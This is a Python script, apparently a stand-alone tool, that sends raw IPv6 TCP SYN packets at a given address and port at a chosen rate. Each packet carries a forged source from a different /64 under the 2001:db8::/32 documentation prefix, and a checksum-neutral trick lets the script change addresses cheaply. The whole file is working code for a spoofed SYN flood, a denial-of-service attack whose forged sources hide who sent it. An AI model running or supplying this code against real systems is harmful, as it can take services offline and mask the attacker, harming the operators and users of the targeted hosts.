#!/usr/bin/python3
"""SYNs at a port, each from an IPv6 /64 of its own below 2001:db8::/32; nobody answers the answers.

Usage: syn6.py ADDRESS PORT COUNT PER_SECOND, at most 2^32 of them. Prints how many were sent. Needs
root, a route to ADDRESS, and ends when its standard input does.
"""
import os
import select
import socket
import struct
import sys
import time

TCP, SYN = 6, 0x02
BATCH = 200


def checksum(data):
    """The internet's checksum of an even number of bytes."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def packet(target, port):
    """A SYN from 2001:db8::1, and what a /64 makes of it: its number, twice, and the sum stays."""
    source = socket.inet_pton(socket.AF_INET6, "2001:db8::1")
    there = socket.inet_pton(socket.AF_INET6, target)
    tcp = struct.pack("!HHIIBBHHH", 40000, port, 7, 0, 5 << 4, SYN, 65535, 0, 0)
    pseudo = source + there + struct.pack("!II", len(tcp), TCP)
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return bytearray(struct.pack("!IHBB", 6 << 28, len(tcp), TCP, 64) + source + there + tcp)


def numbered(syn, number):
    """In place, from the /64 of that number: what its halves add to the sum, the host's part takes
    away again."""
    high, low = number >> 16, number & 0xffff
    struct.pack_into("!HH", syn, 12, high, low)
    struct.pack_into("!HH", syn, 18, 0xffff - high, 0xffff - low)
    return syn


def main(target, port, count, per_second):
    syn, sent, began = packet(target, int(port)), 0, time.monotonic()
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        while sent < int(count):
            for number in range(sent, min(sent + BATCH, int(count))):
                out.sendto(numbered(syn, number), (target, 0))
            sent = min(sent + BATCH, int(count))
            ahead = sent / int(per_second) - (time.monotonic() - began)
            if select.select([sys.stdin], [], [], max(0, ahead))[0] and not os.read(0, 1):
                break
    print(f"{sent} in {time.monotonic() - began:.1f} s")


if __name__ == "__main__":
    main(*sys.argv[1:])
